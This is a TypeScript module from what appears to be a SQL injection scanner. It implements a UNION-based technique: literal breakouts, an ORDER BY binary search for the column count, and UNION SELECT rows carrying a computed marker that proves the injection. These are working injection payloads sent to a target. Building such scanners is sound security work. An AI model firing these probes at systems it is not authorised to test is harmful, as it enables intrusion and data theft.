import type { Exchange } from "../../../src/model/exchange.ts";
import { learnAnswer, sameAnswer } from "../../../src/oracle/answer/stable.ts";
import { showsComputed } from "../../../src/oracle/computed.ts";
import { newMarker } from "../../../src/payloads/marker.ts";
import { computedText } from "../../../src/payloads/sql/dialects.ts";
import { type Aim, labelled, sentValue, type Technique } from "./technique.ts";

/** Columns of a select list that are looked for; wider ones are left to the other techniques. */
const mostColumns = 24;

/** Ways out of a literal; the rest of the line is cut off. */
const openings = ["'", "')", "'))", '"'] as const;

/**
 * Adds a row of its own: the number of columns is found with ORDER BY, then a product that only the database can compute is
 * put into each column until it shows in the reply.
 */
export const unionTechnique: Technique = {
  name: "union",
  computes: true,
  async probe(aim) {
    // A word that matches nothing gives the same empty answer however it is sorted; some servers hide errors in that answer.
    const values = [aim.random.word(8), aim.base];
    for (const open of openings) {
      const columns =
        (await countColumns(aim, `${values[0]}${open}`)) || (await countColumns(aim, `${values[1]}${open}`));
      for (let at = 0; at < columns; at += 1) {
        if (await showsIn(aim, open, columns, at)) return;
      }
    }
  },
  find(exchanges) {
    const hit = labelled(exchanges, "union").find((exchange) =>
      showsComputed(exchange, String(exchange.facts.computed)),
    );
    if (hit === undefined) return undefined;
    return {
      proof: [hit.id],
      because: "a row added with UNION came back, holding a value that only the database could compute",
    };
  },
};

/** How many columns the statement selects that `start` leaves; 0 when ORDER BY changes nothing, which is what a bound value does. */
async function countColumns(aim: Aim, start: string): Promise<number> {
  const orderBy = (column: number): Promise<Exchange> =>
    aim.send(`${start} ORDER BY ${column}-- `, { role: "confirm", label: `columns:${column}` });
  const low = await orderBy(1);
  // Asked twice: a reply that changes by itself, such as the number of a new record, must not look like a change of ours.
  const valid = learnAnswer([low.reply, (await orderBy(1)).reply], sentValue(low));
  const beyond = await orderBy(mostColumns + 1);
  if (valid === undefined || sameAnswer(valid, beyond.reply, sentValue(beyond))) return 0;
  let known = 1;
  let above = mostColumns + 1;
  while (above - known > 1) {
    const middle = Math.floor((known + above) / 2);
    const exchange = await orderBy(middle);
    if (sameAnswer(valid, exchange.reply, sentValue(exchange))) known = middle;
    else above = middle;
  }
  return known;
}

async function showsIn(aim: Aim, open: string, columns: number, at: number): Promise<boolean> {
  const marker = newMarker(aim.random);
  const cells = Array.from({ length: columns }, (_, column) => (column === at ? computedText(marker) : "NULL"));
  // It matches nothing, so the added row is the first one.
  const value = `${aim.random.word(8)}${open} UNION SELECT ${cells.join(",")}-- `;
  const exchange = await aim.send(value, {
    role: "attack",
    label: `union:${columns}:${at + 1}`,
    facts: { computed: marker.product },
  });
  return showsComputed(exchange, marker.product);
}
